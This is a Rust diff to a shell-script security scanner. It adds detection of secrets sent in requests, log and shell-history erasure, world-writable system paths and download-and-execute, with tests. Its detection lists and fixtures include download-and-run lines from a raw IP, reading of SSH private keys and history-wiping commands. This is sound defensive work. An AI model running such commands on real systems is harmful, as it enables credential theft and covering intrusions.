@@ -7,7 +7,7 @@
 //! persistence, privilege changes, quarantine removal, password dialogs, credential access, and
 //! the capabilities used (programs, hosts, environment variables, files written).
 
-use std::collections::HashSet;
+use std::collections::{HashMap, HashSet};
 
 use tree_sitter::Node;
 
@@ -49,13 +49,17 @@ pub(crate) fn scan(source: &str, base: usize, sink: &mut Sink, nesting: u8) -> b
         return true;
     };
     let root = tree.root_node();
-    let analysis = Analysis {
+    let mut analysis = Analysis {
         src: source.as_bytes(),
         base,
         nesting,
         assigned: assigned_names(root, source.as_bytes()),
         downloads: std::cell::RefCell::new(Vec::new()),
+        values: HashMap::new(),
+        functions: HashMap::new(),
+        expansions: std::cell::Cell::new(0),
     };
+    analysis.collect_values(root);
     let mut stack = vec![root];
     while let Some(node) = stack.pop() {
         match node.kind() {
@@ -63,6 +67,8 @@ pub(crate) fn scan(source: &str, base: usize, sink: &mut Sink, nesting: u8) -> b
             "command" => analysis.command(node, sink),
             "file_redirect" => analysis.redirect(node, sink),
             "simple_expansion" | "expansion" => analysis.expansion(node, sink),
+            "variable_assignment" => analysis.assignment(node, sink),
+            "unset_command" => analysis.unset(node, sink),
             _ => {}
         }
         let mut cursor = node.walk();
@@ -80,11 +86,178 @@ struct Analysis<'s> {
     /// Files a downloader wrote (`curl -o F URL`, `wget -O F`, `curl URL > F`), with the URL:
     /// running one later is download-and-execute.
     downloads: std::cell::RefCell<Vec<(String, Option<String>)>>,
+    /// What each variable may hold, as far as the script shows: assignments (with the
+    /// variables known before them substituted), `for` lists, `$(echo … | base64 -d)` decoded,
+    /// and `$(helper ARGS)` with the helper's body. Unknown parts stay as written.
+    values: HashMap<String, Vec<String>>,
+    /// Functions the script defines: name → body text.
+    functions: HashMap<String, String>,
+    /// How many helper calls were expanded (bounded by [`MAX_EXPANSIONS`]).
+    expansions: std::cell::Cell<usize>,
 }
+
+/// Most values kept per variable, and most variants a word resolves to.
+const MAX_VALUES: usize = 8;
+/// Longest value kept for a variable.
+const MAX_VALUE_BYTES: usize = 4096;
+/// Most helper calls expanded per script.
+const MAX_EXPANSIONS: usize = 32;
 
 impl Analysis<'_> {
     fn text(&self, node: Node) -> &str {
         node.utf8_text(self.src).unwrap_or("")
+    }
+
+    /// One pass in document order over assignments, `for` lists and function definitions:
+    /// constant propagation, enough to see `dir="$HOME/.ssh"; cat "$dir/id_rsa"`.
+    fn collect_values(&mut self, root: Node) {
+        let mut stack = vec![root];
+        while let Some(node) = stack.pop() {
+            match node.kind() {
+                "variable_assignment" => {
+                    if let (Some(name), Some(value)) = (
+                        node.child_by_field_name("name"),
+                        node.child_by_field_name("value"),
+                    ) {
+                        let name = self.text(name).to_owned();
+                        let values = self.value_of(value);
+                        self.add_values(name, values);
+                    }
+                }
+                "for_statement" => {
+                    if let Some(variable) = node.child_by_field_name("variable") {
+                        let name = self.text(variable).to_owned();
+                        let mut cursor = node.walk();
+                        let values: Vec<String> = node
+                            .children_by_field_name("value", &mut cursor)
+                            .flat_map(|v| self.resolve(&self.word(v).text))
+                            .collect();
+                        self.add_values(name, values);
+                    }
+                }
+                "function_definition" => {
+                    if let (Some(name), Some(body)) = (
+                        node.child_by_field_name("name"),
+                        node.child_by_field_name("body"),
+                    ) {
+                        let body = self.text(body);
+                        let body = body
+                            .trim()
+                            .trim_start_matches(['{', '('])
+                            .trim_end_matches(['}', ')']);
+                        self.functions
+                            .insert(self.text(name).to_owned(), body.to_owned());
+                    }
+                }
+                _ => {}
+            }
+            let mut cursor = node.walk();
+            let children: Vec<Node> = node.named_children(&mut cursor).collect();
+            stack.extend(children.into_iter().rev());
+        }
+    }
+
+    fn add_values(&mut self, name: String, values: Vec<String>) {
+        let entry = self.values.entry(name).or_default();
+        for value in values {
+            if entry.len() >= MAX_VALUES {
+                break;
+            }
+            if value.len() <= MAX_VALUE_BYTES && !entry.contains(&value) {
+                entry.push(value);
+            }
+        }
+    }
+
+    /// The values an assignment's right-hand side may have.
+    fn value_of(&self, value: Node) -> Vec<String> {
+        if value.kind() == "command_substitution" {
+            let inner = self.text(value);
+            let inner = inner
+                .strip_prefix("$(")
+                .and_then(|i| i.strip_suffix(')'))
+                .unwrap_or(inner)
+                .trim();
+            if let Some(decoded) = decode_echo(inner) {
+                return vec![decoded];
+            }
+            if let Some(expanded) = self.expand_call(inner) {
+                return self
+                    .resolve(&expanded)
+                    .into_iter()
+                    .map(|e| format!("$({e})"))
+                    .collect();
+            }
+        }
+        self.resolve(&self.word(value).text)
+    }
+
+    /// `helper ARGS` (a function of this script) with its body's `$1`… replaced by ARGS.
+    fn expand_call(&self, command: &str) -> Option<String> {
+        let mut words = split_words(command);
+        if words.is_empty() {
+            return None;
+        }
+        let name = words.remove(0);
+        self.expand_function(&name, &words)
+    }
+
+    /// The body of the script's function `name` with `$1`… replaced by `args`, when it uses
+    /// them: the helper's summary, computed by substitution.
+    fn expand_function(&self, name: &str, args: &[String]) -> Option<String> {
+        let body = self.functions.get(name)?;
+        let mut expanded = body.clone();
+        for (i, arg) in args.iter().enumerate().take(9).rev() {
+            let n = i + 1;
+            expanded = expanded
+                .replace(&format!("${{{n}}}"), arg)
+                .replace(&format!("${n}"), arg);
+        }
+        (expanded != *body).then_some(expanded)
+    }
+
+    /// Every text `text` may stand for once known variables are substituted (`$x`, `${x}`,
+    /// and `${!x}` as a reference to the variable named by `x`); itself when none is known.
+    fn resolve(&self, text: &str) -> Vec<String> {
+        if self.values.is_empty() || !text.contains('$') {
+            return vec![text.to_owned()];
+        }
+        let mut variants = vec![String::new()];
+        let mut literal_start = 0;
+        let mut i = 0;
+        while i < text.len() {
+            if text.as_bytes()[i] == b'$'
+                && let Some((end, name, indirect)) = variable_reference(text, i)
+                && let Some(values) = self.values.get(name)
+                && !values.is_empty()
+            {
+                let before = &text[literal_start..i];
+                let mut next = Vec::new();
+                'outer: for variant in &variants {
+                    for value in values {
+                        if next.len() >= MAX_VALUES {
+                            break 'outer;
+                        }
+                        let value = if indirect {
+                            format!("${{{value}}}")
+                        } else {
+                            value.clone()
+                        };
+                        next.push(format!("{variant}{before}{value}"));
+                    }
+                }
+                variants = next;
+                i = end;
+                literal_start = end;
+                continue;
+            }
+            i += 1;
+        }
+        let rest = &text[literal_start..];
+        for variant in &mut variants {
+            variant.push_str(rest);
+        }
+        variants
     }
 
     fn at(&self, node: Node) -> usize {
@@ -225,7 +398,7 @@ impl Analysis<'_> {
             self.network_hosts(&cmd, sink);
         }
         if knowledge::DOWNLOADERS.contains(&name.as_str())
-            && let Some(target) = Self::download_target(&cmd)
+            && let Some(target) = Self::download_target(&cmd, &name)
         {
             let url = cmd
                 .args
@@ -385,6 +558,23 @@ impl Analysis<'_> {
                 scan(&script.text, script.offset + 1, sink, self.nesting + 1);
             }
         }
+        self.secret_in_request(&cmd, &name, sink);
+        self.log_erasure(&cmd, &name, sink);
+        self.system_permissions(&cmd, &name, sink);
+        // A call of one of the script's functions with literal arguments: its body, with the
+        // arguments in place (what they change is what the body alone could not show).
+        if self.nesting < MAX_NESTING
+            && self.expansions.get() < MAX_EXPANSIONS
+            && cmd.args.iter().any(|a| a.literal)
+        {
+            let args: Vec<String> = cmd.args.iter().map(|a| a.text.clone()).collect();
+            if let Some(expanded) = self.expand_function(&name, &args) {
+                self.expansions.set(self.expansions.get() + 1);
+                sink.with_origin(cmd.offset, |sink| {
+                    scan(&expanded, 0, sink, self.nesting + 1);
+                });
+            }
+        }
         // Credentials count when their content is read or shipped, not when a path is mentioned.
         let credential_ok = !knowledge::CONTENT_READERS.contains(&name.as_str())
             || (name == "scp" && cmd.args.iter().any(|a| a.text.ends_with(".pub")));
@@ -397,17 +587,213 @@ impl Analysis<'_> {
                     None,
                 );
             }
-            if !credential_ok && let Some(hit) = knowledge::sensitive_path(&arg.text) {
-                sink.emit(
-                    rules::CRED_SENSITIVE_PATH,
-                    arg.offset,
-                    format!("touches {hit}"),
-                    Some(arg.text.clone()),
-                );
-                sink.note_credential(arg.offset);
+            // Paths held in variables count; another command's output held in one does not
+            // (that command was judged where it runs).
+            let credential = (!credential_ok)
+                .then(|| {
+                    self.resolve(&arg.text)
+                        .into_iter()
+                        .filter(|v| arg.text.contains("$(") || !v.contains("$("))
+                        .find_map(|v| knowledge::sensitive_path(&v).map(|hit| (hit, v)))
+                })
+                .flatten();
+            if let Some((hit, path)) = credential {
+                if name == "jq" && knowledge::is_agent_store(hit) && jq_selects_one_field(&cmd.args)
+                {
+                    // OpenClaw keeps each Skill's token under its own key: reading one field is
+                    // how honest Skills get their token, unlike taking the whole store.
+                    sink.emit_with(
+                        rules::CRED_SENSITIVE_PATH,
+                        Severity::Medium,
+                        arg.offset,
+                        format!("reads one field of the agent's credential store {hit}"),
+                        Some(path),
+                    );
+                } else {
+                    sink.emit(
+                        rules::CRED_SENSITIVE_PATH,
+                        arg.offset,
+                        format!("touches {hit}"),
+                        Some(path),
+                    );
+                    sink.note_credential(arg.offset);
+                }
             }
             if arg.literal && arg.text.len() >= text::MIN_BLOB_CHARS {
                 text::scan_blob(&arg.text, arg.offset, sink);
+            }
+        }
+    }
+
+    /// A secret placed in a request: the whole environment, or a secret-named variable in a
+    /// DNS name, sent to a throw-away host, or sent to a host its provider is not. A provider's
+    /// own key going to that provider, and secrets of unknown owners going to named hosts, are
+    /// what API clients do.
+    fn secret_in_request(&self, cmd: &Command, name: &str, sink: &mut Sink) {
+        let dns = knowledge::DNS_LOOKUPS.contains(&name);
+        if !dns && !knowledge::DOWNLOADERS.contains(&name) {
+            return;
+        }
+        let variants: Vec<(usize, String)> = cmd
+            .args
+            .iter()
+            .flat_map(|a| self.resolve(&a.text).into_iter().map(|v| (a.offset, v)))
+            .collect();
+        // The request's address is an argument that is a URL, not one inside a body or header.
+        let url = variants.iter().find_map(|(_, v)| {
+            let v = v.trim_start_matches("--url=");
+            (v.starts_with("https://") || v.starts_with("http://"))
+                .then(|| knowledge::urls(v).first().map(|(_, u)| u.to_string()))
+                .flatten()
+        });
+        let host = url.as_deref().and_then(knowledge::host_of);
+        for (offset, text) in &variants {
+            for secret in secret_references(text) {
+                let Some(variable) = secret else {
+                    sink.emit(
+                        rules::CRED_IN_REQUEST,
+                        *offset,
+                        format!("{name} sends the whole environment"),
+                        Some(host.clone().unwrap_or_else(|| "*".into())),
+                    );
+                    continue;
+                };
+                let in_host = url_host_mentions(text, variable);
+                let why = if dns || in_host {
+                    Some("in a DNS name".to_owned())
+                } else if knowledge::secret_never_sent(variable) {
+                    Some("that is never sent as it is".to_owned())
+                } else {
+                    match (&host, url.as_deref()) {
+                        (Some(host), Some(url)) => {
+                            match knowledge::secret_misdirected(variable, host) {
+                                Some(true) => Some(format!("to {host}, not its provider")),
+                                Some(false) => None,
+                                None => knowledge::is_drop_host(url)
+                                    .then(|| format!("to the drop address {host}")),
+                            }
+                        }
+                        _ => None,
+                    }
+                };
+                if let Some(why) = why {
+                    sink.emit(
+                        rules::CRED_IN_REQUEST,
+                        *offset,
+                        format!("{name} sends ${variable} {why}"),
+                        Some(host.clone().unwrap_or_else(|| "*".into())),
+                    );
+                }
+            }
+        }
+    }
+
+    /// Logs and shell history deleted, emptied or switched off.
+    fn log_erasure(&self, cmd: &Command, name: &str, sink: &mut Sink) {
+        let has = |flag: &str| cmd.args.iter().any(|a| a.text == flag);
+        let log_arg = || {
+            cmd.args
+                .iter()
+                .flat_map(|a| self.resolve(&a.text))
+                .find(|a| is_log_path(a))
+        };
+        let what = match name {
+            "history" if has("-c") => Some("clears the shell history".to_owned()),
+            "set" if has("+o") && has("history") => {
+                Some("stops the shell history being recorded".to_owned())
+            }
+            "rm" | "shred" | "unlink" | "truncate" | "srm" | "wipe" => {
+                log_arg().map(|path| format!("{name} erases {path}"))
+            }
+            "find" if has("-delete") || cmd.args.iter().any(|a| a.text == "-exec") => {
+                log_arg().map(|path| format!("find deletes files under {path}"))
+            }
+            "wevtutil"
+                if cmd.args.first().is_some_and(|a| {
+                    a.text.eq_ignore_ascii_case("cl") || a.text.eq_ignore_ascii_case("clear-log")
+                }) =>
+            {
+                Some("clears a Windows event log".to_owned())
+            }
+            "log" if cmd.args.first().is_some_and(|a| a.text == "erase") => {
+                Some("erases the macOS unified log".to_owned())
+            }
+            "journalctl" => {
+                let mut args = cmd.args.iter();
+                let mut vacuum = None;
+                while let Some(arg) = args.next() {
+                    if let Some(rest) = arg.text.strip_prefix("--vacuum-") {
+                        let (kind, value) = match rest.split_once('=') {
+                            Some((kind, value)) => (kind.to_owned(), value.to_owned()),
+                            None => (
+                                rest.to_owned(),
+                                args.next().map(|a| a.text.clone()).unwrap_or_default(),
+                            ),
+                        };
+                        vacuum = Some((kind, value));
+                    }
+                }
+                if let Some((kind, value)) = vacuum {
+                    let severity = if vacuum_keeps_nothing(&kind, &value) {
+                        Severity::High
+                    } else {
+                        Severity::Medium
+                    };
+                    sink.emit_with(
+                        rules::EVADE_LOG_ERASURE,
+                        severity,
+                        cmd.offset,
+                        format!("journalctl vacuums the system journal (--vacuum-{kind}={value})"),
+                        Some("/var/log/journal".into()),
+                    );
+                }
+                None
+            }
+            _ => None,
+        };
+        if let Some(what) = what {
+            sink.emit(rules::EVADE_LOG_ERASURE, cmd.offset, what, None);
+        }
+    }
+
+    /// `chmod` making system paths writable by everyone, `chown` giving them away from root.
+    fn system_permissions(&self, cmd: &Command, name: &str, sink: &mut Sink) {
+        if !matches!(name, "chmod" | "chown" | "chgrp") {
+            return;
+        }
+        let mut operands = cmd.args.iter().filter(|a| !a.text.starts_with('-'));
+        let Some(first) = operands.next() else { return };
+        let paths: Vec<&Word> = operands.collect();
+        let weakens = match name {
+            "chmod" => is_world_writable_mode(&first.text),
+            // Giving a system path back to root is what installers do; to anyone else, not.
+            _ => {
+                let owner = first.text.split([':', '.']).next().unwrap_or("");
+                !matches!(owner, "root" | "0" | "wheel" | "admin" | "")
+            }
+        };
+        if !weakens {
+            return;
+        }
+        let core_only = name != "chmod";
+        for path in paths {
+            if let Some(target) = self
+                .resolve(&path.text)
+                .into_iter()
+                .find(|p| is_system_path(p, core_only))
+            {
+                let message = if name == "chmod" {
+                    format!("makes {target} writable by everyone (chmod {})", first.text)
+                } else {
+                    format!("gives {target} to {} ({name})", first.text)
+                };
+                sink.emit(
+                    rules::PRIV_SYSTEM_PERMISSIONS,
+                    path.offset,
+                    message,
+                    Some(target),
+                );
+                return;
             }
         }
     }
@@ -487,44 +873,60 @@ impl Analysis<'_> {
         }
     }
 
-    /// Reports a file that an earlier command downloaded being run.
-    fn report_downloaded_run(&self, url: Option<&str>, runner: &str, at: usize, sink: &mut Sink) {
-        let (rule, what) = match url.map(knowledge::classify_source) {
-            Some(Source::KnownInstaller) => (
-                rules::EXEC_PIPE_TO_SHELL_KNOWN,
-                "a file downloaded from a well-known installer",
-            ),
-            Some(Source::Throwaway) => (
-                rules::EXEC_PIPE_TO_SHELL_RAW,
-                "a file downloaded from a raw IP, plain http or throw-away host",
-            ),
-            _ => (rules::EXEC_PIPE_TO_SHELL, "a downloaded file"),
-        };
-        let from = url.map(|u| format!(" ({u})")).unwrap_or_default();
-        sink.emit(
-            rule,
-            at,
-            format!("{what}{from} is run by {runner}"),
-            Some(runner.to_owned()),
-        );
-    }
-
-    /// The file a downloader command writes, when it names one.
-    fn download_target(cmd: &Command) -> Option<String> {
+    /// The file a downloader command writes: `-o F`, `--output F`, `-fsSLo F`, `wget -qO F`,
+    /// `curl -O URL` and plain `wget URL` (the URL's last path segment).
+    fn download_target(cmd: &Command, name: &str) -> Option<String> {
+        let wget = name == "wget";
+        let mut remote_name = wget;
         let mut args = cmd.args.iter();
         while let Some(arg) = args.next() {
             let text = arg.text.as_str();
+            if let Some(value) = text
+                .strip_prefix("--output=")
+                .or_else(|| text.strip_prefix("--output-document="))
+            {
+                return Some(value.to_owned());
+            }
             match text {
-                "-o" | "--output" | "-O" | "--output-document" | "-OutFile" => {
+                "--output" | "--output-document" | "-OutFile" => {
                     return args.next().map(|a| a.text.clone());
                 }
-                _ if text.starts_with("--output=") || text.starts_with("--output-document=") => {
-                    return text.split_once('=').map(|(_, v)| v.to_owned());
-                }
+                "--remote-name" | "--remote-name-all" => remote_name = true,
                 _ => {}
             }
+            let Some(flags) = text.strip_prefix('-').filter(|f| !f.starts_with('-')) else {
+                continue;
+            };
+            let output = if wget { 'O' } else { 'o' };
+            if let Some(pos) = flags.find(output)
+                && flags[..pos].bytes().all(|b| b.is_ascii_alphabetic())
+            {
+                let attached = &flags[pos + 1..];
+                return if attached.is_empty() {
+                    args.next().map(|a| a.text.clone())
+                } else {
+                    Some(attached.to_owned())
+                };
+            }
+            // Boolean flags only (`-fsSLO`): `O` is curl's "name it after the URL".
+            if !wget && flags.contains('O') && flags.bytes().all(|b| b"fsSLkvOqg#".contains(&b)) {
+                remote_name = true;
+            }
         }
-        None
+        if !remote_name {
+            return None;
+        }
+        let url = cmd
+            .args
+            .iter()
+            .find_map(|a| knowledge::urls(&a.text).first().map(|(_, u)| u.to_string()))?;
+        let path = url.split(['?', '#']).next().unwrap_or("");
+        let (_, after_scheme) = path.split_once("://")?;
+        let (_, rest) = after_scheme.split_once('/')?;
+        rest.rsplit('/')
+            .next()
+            .filter(|b| !b.is_empty())
+            .map(str::to_owned)
     }
 
     /// Reports code from a download and/or a decoder being run by `interpreter`.
@@ -641,7 +1043,7 @@ impl Analysis<'_> {
             .flatten();
         for (path, url) in downloads.iter() {
             if same(program_text, path) || script.as_deref().is_some_and(|s| same(s, path)) {
-                self.report_downloaded_run(url.as_deref(), name, cmd.offset, sink);
+                report_downloaded_run(url.as_deref(), name, cmd.offset, sink);
                 return;
             }
         }
@@ -684,7 +1086,48 @@ impl Analysis<'_> {
         }
         if writes {
             let content = node.parent().and_then(|p| self.written_content(p));
+            let truncates = !operator.contains(">>")
+                && is_log_path(&word.text)
+                && content
+                    .as_deref()
+                    .is_none_or(|c| c.trim().trim_matches(['"', '\'']).is_empty())
+                && self.writes_nothing(node);
+            if truncates {
+                sink.emit(
+                    rules::EVADE_LOG_ERASURE,
+                    word.offset,
+                    format!("empties {}", word.text),
+                    None,
+                );
+            }
             self.write_target(&word.text, word.offset, content, sink);
+        }
+    }
+
+    /// Whether the statement around a redirection writes nothing: `> f`, `: > f`, `true > f`,
+    /// `echo > f`, `cat /dev/null > f`.
+    fn writes_nothing(&self, redirect: Node) -> bool {
+        let Some(statement) = redirect
+            .parent()
+            .filter(|p| p.kind() == "redirected_statement")
+        else {
+            return true;
+        };
+        let Some(body) = statement
+            .child_by_field_name("body")
+            .filter(|b| b.kind() == "command")
+        else {
+            return true;
+        };
+        let cmd = self.parse_command(body);
+        match cmd.name.as_deref() {
+            None | Some(":" | "true") => true,
+            Some("echo" | "printf") => cmd
+                .args
+                .iter()
+                .all(|a| a.text.is_empty() || a.text.starts_with('-')),
+            Some("cat") => cmd.args.iter().all(|a| a.text == "/dev/null"),
+            _ => false,
         }
     }
 
@@ -721,6 +1164,46 @@ impl Analysis<'_> {
             }
         }
         None
+    }
+
+    /// `unset HISTFILE`: the shell history is no longer saved.
+    fn unset(&self, node: Node, sink: &mut Sink) {
+        let mut cursor = node.walk();
+        if node
+            .named_children(&mut cursor)
+            .any(|c| self.text(c) == "HISTFILE")
+        {
+            sink.emit(
+                rules::EVADE_LOG_ERASURE,
+                self.at(node),
+                "stops the shell history being saved (unset HISTFILE)",
+                None,
+            );
+        }
+    }
+
+    /// `HISTFILE=/dev/null`, `HISTSIZE=0`: the shell history switched off.
+    fn assignment(&self, node: Node, sink: &mut Sink) {
+        let (Some(name), Some(value)) = (
+            node.child_by_field_name("name"),
+            node.child_by_field_name("value"),
+        ) else {
+            return;
+        };
+        let value = self.word(value).text;
+        let off = match self.text(name) {
+            "HISTFILE" => value == "/dev/null",
+            "HISTSIZE" | "HISTFILESIZE" | "SAVEHIST" => value == "0",
+            _ => false,
+        };
+        if off {
+            sink.emit(
+                rules::EVADE_LOG_ERASURE,
+                self.at(node),
+                format!("switches the shell history off ({})", self.text(node)),
+                None,
+            );
+        }
     }
 
     fn expansion(&self, node: Node, sink: &mut Sink) {
@@ -863,4 +1346,333 @@ fn is_plausible_program(name: &str) -> bool {
             .bytes()
             .next()
             .is_some_and(|b| b.is_ascii_alphanumeric())
+}
+
+/// `$name`, `${name}` or `${!name}` at byte `at`: (end, name, indirect). Anything with
+/// modifiers (`${x:-y}`) is left alone.
+fn variable_reference(text: &str, at: usize) -> Option<(usize, &str, bool)> {
+    let bytes = text.as_bytes();
+    let is_name = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
+    let braced = bytes.get(at + 1) == Some(&b'{');
+    let mut start = at + 1 + usize::from(braced);
+    let indirect = braced && bytes.get(start) == Some(&b'!');
+    start += usize::from(indirect);
+    let mut end = start;
+    while end < bytes.len() && is_name(bytes[end]) {
+        end += 1;
+    }
+    if end == start || bytes[start].is_ascii_digit() {
+        return None;
+    }
+    if braced {
+        if bytes.get(end) != Some(&b'}') {
+            return None;
+        }
+        return Some((end + 1, &text[start..end], indirect));
+    }
+    Some((end, &text[start..end], false))
+}
+
+/// Words of a simple command line, quotes removed (enough for helper calls and `echo` lines).
+fn split_words(command: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut quote: Option<char> = None;
+    let mut any = false;
+    for c in command.chars() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), c) => current.push(c),
+            (None, '"' | '\'') => {
+                quote = Some(c);
+                any = true;
+            }
+            (None, c) if c.is_whitespace() => {
+                if any || !current.is_empty() {
+                    words.push(std::mem::take(&mut current));
+                }
+                any = false;
+            }
+            (None, c) => current.push(c),
+        }
+    }
+    if any || !current.is_empty() {
+        words.push(current);
+    }
+    words
+}
+
+/// `echo TEXT | base64 -d` (or `printf`, `-D`, `--decode`): the decoded text, when it is text.
+fn decode_echo(pipeline: &str) -> Option<String> {
+    use base64::Engine as _;
+    let (left, right) = pipeline.split_once('|')?;
+    let decoder = split_words(right);
+    let decodes = decoder
+        .first()
+        .is_some_and(|d| d == "base64" || d == "gbase64")
+        && decoder[1..]
+            .iter()
+            .any(|f| matches!(f.as_str(), "-d" | "-D" | "--decode"));
+    if !decodes {
+        return None;
+    }
+    let mut words = split_words(left);
+    let printer = words.first()?.clone();
+    if printer != "echo" && printer != "printf" {
+        return None;
+    }
+    words.retain(|w| !w.starts_with('-') && w != "%s");
+    let blob = words.get(1)?.trim();
+    let bytes = base64::engine::general_purpose::STANDARD
+        .decode(blob)
+        .ok()?;
+    String::from_utf8(bytes).ok().filter(|t| !t.contains('\0'))
+}
+
+/// Secrets `text` refers to: `Some(NAME)` for a secret-named variable (`$NAME`, `${NAME…}`,
+/// `printenv NAME`), `None` for the whole environment (`$(env)`, `$(printenv)`, `` `env` ``).
+fn secret_references(text: &str) -> Vec<Option<&str>> {
+    let mut out = Vec::new();
+    let bytes = text.as_bytes();
+    let is_name = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
+    let name_at = |start: usize| {
+        let mut end = start;
+        while end < bytes.len() && is_name(bytes[end]) {
+            end += 1;
+        }
+        &text[start..end]
+    };
+    for (i, _) in text.match_indices('$') {
+        let start = i + 1 + usize::from(bytes.get(i + 1) == Some(&b'{'));
+        let name = name_at(start);
+        if knowledge::is_secret_name(name) {
+            out.push(Some(name));
+        }
+    }
+    for (i, _) in text.match_indices("printenv") {
+        let rest = text[i + "printenv".len()..].trim_start_matches([' ', '"', '\'']);
+        let name = &rest[..rest.bytes().position(|b| !is_name(b)).unwrap_or(rest.len())];
+        if knowledge::is_secret_name(name) {
+            out.push(Some(name));
+        }
+    }
+    const DUMPS: &[&str] = &[
+        "$(env)",
+        "$(env |",
+        "$(env|",
+        "$(printenv)",
+        "$(printenv |",
+        "$(printenv|",
+        "`env`",
+        "`printenv`",
+        "$(set)",
+        "$(export -p)",
+    ];
+    if DUMPS.iter().any(|d| text.contains(d)) {
+        out.push(None);
+    }
+    out
+}
+
+/// Whether the host part of a URL in `text` is built from `$variable`.
+fn url_host_mentions(text: &str, variable: &str) -> bool {
+    text.match_indices("://").any(|(i, _)| {
+        let rest = &text[i + 3..];
+        let host = &rest[..rest
+            .find(['/', '?', '#', '"', '\'', ' '])
+            .unwrap_or(rest.len())];
+        host.contains(variable)
+    })
+}
+
+/// System logs and shell history files.
+fn is_log_path(path: &str) -> bool {
+    let lower = path.trim_matches(['"', '\'']).to_ascii_lowercase();
+    ["/var/log", "/private/var/log", "/var/adm", "/var/audit"]
+        .iter()
+        .any(|p| {
+            lower == *p
+                || lower.starts_with(&format!("{p}/"))
+                || lower.starts_with(&format!("{p}*"))
+        })
+        || [
+            ".bash_history",
+            ".zsh_history",
+            ".sh_history",
+            "fish_history",
+            "$histfile",
+        ]
+        .iter()
+        .any(|h| lower.ends_with(h))
+}
+
+/// Whether a journal vacuum leaves (almost) nothing: under an hour, under a megabyte, one file.
+fn vacuum_keeps_nothing(kind: &str, value: &str) -> bool {
+    let digits: String = value.chars().take_while(char::is_ascii_digit).collect();
+    let unit = value[digits.len()..].trim().to_ascii_lowercase();
+    let Ok(number) = digits.parse::<u64>() else {
+        return false;
+    };
+    match kind {
+        "time" => matches!(
+            unit.as_str(),
+            "" | "s"
+                | "sec"
+                | "second"
+                | "seconds"
+                | "ms"
+                | "us"
+                | "m"
+                | "min"
+                | "minute"
+                | "minutes"
+        ),
+        "size" => matches!(unit.as_str(), "" | "b" | "k" | "kb" | "kib") || number == 0,
+        "files" => number <= 1,
+        _ => false,
+    }
+}
+
+/// `777`, `666`, `o+w`, `a+w`, `a=rwx`: writable by everyone.
+fn is_world_writable_mode(mode: &str) -> bool {
+    if mode.len() >= 3 && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
+        let others = mode.as_bytes()[mode.len() - 1] - b'0';
+        return others & 2 != 0;
+    }
+    mode.split(',').any(|clause| {
+        let Some(op) = clause.find(['+', '=']) else {
+            return false;
+        };
+        let (who, perms) = clause.split_at(op);
+        (who.contains('o') || who.contains('a')) && perms.contains('w')
+    })
+}
+
+/// System locations (absolute, not the user's own): with `core_only`, only those no user should
+/// own (/etc, /usr but /usr/local, /bin, /sbin, /lib, /boot, /System, /Library, /root, `/`);
+/// otherwise /var and the Docker socket too.
+fn is_system_path(path: &str, core_only: bool) -> bool {
+    let lower = path.trim_matches(['"', '\'']).to_ascii_lowercase();
+    let lower = lower.trim_end_matches('*');
+    if lower == "/" || lower.starts_with("c:\\windows") || lower.starts_with("c:/windows") {
+        return true;
+    }
+    let under = |p: &str| lower == p || lower.starts_with(&format!("{p}/"));
+    if under("/usr/local") || under("/var/tmp") {
+        return false;
+    }
+    let core = [
+        "/etc",
+        "/usr",
+        "/bin",
+        "/sbin",
+        "/lib",
+        "/lib64",
+        "/lib32",
+        "/boot",
+        "/system",
+        "/library",
+        "/root",
+        "/private/etc",
+    ]
+    .iter()
+    .any(|p| under(p));
+    core || (!core_only
+        && (under("/var") || under("/private/var") || lower.ends_with("/docker.sock")))
+}
+
+/// Whether a `jq` filter selects one nested field (`.tool.api_key // empty`), not the whole
+/// document or a whole section.
+fn jq_selects_one_field(args: &[Word]) -> bool {
+    let Some(filter) = args.iter().find(|a| !a.text.starts_with('-')) else {
+        return false;
+    };
+    let path = filter.text.split("//").next().unwrap_or("").trim();
+    let segments = path.split('.').filter(|s| !s.is_empty()).count();
+    path.starts_with('.')
+        && segments >= 2
+        && path
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'"'))
+}
+
+/// Reports a file that an earlier command downloaded being run.
+pub(crate) fn report_downloaded_run(url: Option<&str>, runner: &str, at: usize, sink: &mut Sink) {
+    let (rule, what) = match url.map(knowledge::classify_source) {
+        Some(Source::KnownInstaller) => (
+            rules::EXEC_PIPE_TO_SHELL_KNOWN,
+            "a file downloaded from a well-known installer",
+        ),
+        Some(Source::Throwaway) => (
+            rules::EXEC_PIPE_TO_SHELL_RAW,
+            "a file downloaded from a raw IP, plain http or throw-away host",
+        ),
+        _ => (rules::EXEC_PIPE_TO_SHELL, "a downloaded file"),
+    };
+    let from = url.map(|u| format!(" ({u})")).unwrap_or_default();
+    sink.emit(
+        rule,
+        at,
+        format!("{what}{from} is run by {runner}"),
+        Some(runner.to_owned()),
+    );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules_in(text: &str) -> Vec<&'static str> {
+        let mut sink = Sink::new("x.sh", text);
+        scan(text, 0, &mut sink, 0);
+        sink.finish().0.into_iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn downloads_written_made_executable_and_run() {
+        let combined = "curl -fsSLo /tmp/h https://get.example.dev/h\nchmod +x /tmp/h\n/tmp/h\n";
+        assert!(rules_in(combined).contains(&rules::EXEC_PIPE_TO_SHELL));
+        let wget_default_name = "wget http://203.0.113.9/agent\nchmod +x agent\n./agent\n";
+        assert!(rules_in(wget_default_name).contains(&rules::EXEC_PIPE_TO_SHELL_RAW));
+        let remote_name = "curl -fsSLO https://203.0.113.9/x.bin\nchmod +x x.bin && ./x.bin\n";
+        assert!(rules_in(remote_name).contains(&rules::EXEC_PIPE_TO_SHELL_RAW));
+        // A download that is only read is not run.
+        let kept = "curl -fsSLo data.json https://api.example.dev/d\njq . data.json\n";
+        assert!(!rules_in(kept).iter().any(|r| r.starts_with("SK-EXEC-00")));
+    }
+
+    #[test]
+    fn values_follow_assignments_loops_helpers_and_decoding() {
+        let cred = |t: &str| rules_in(t).contains(&rules::CRED_SENSITIVE_PATH);
+        assert!(cred("dir=\"$HOME/.ssh\"\ncat \"$dir/id_rsa\"\n"));
+        assert!(cred(
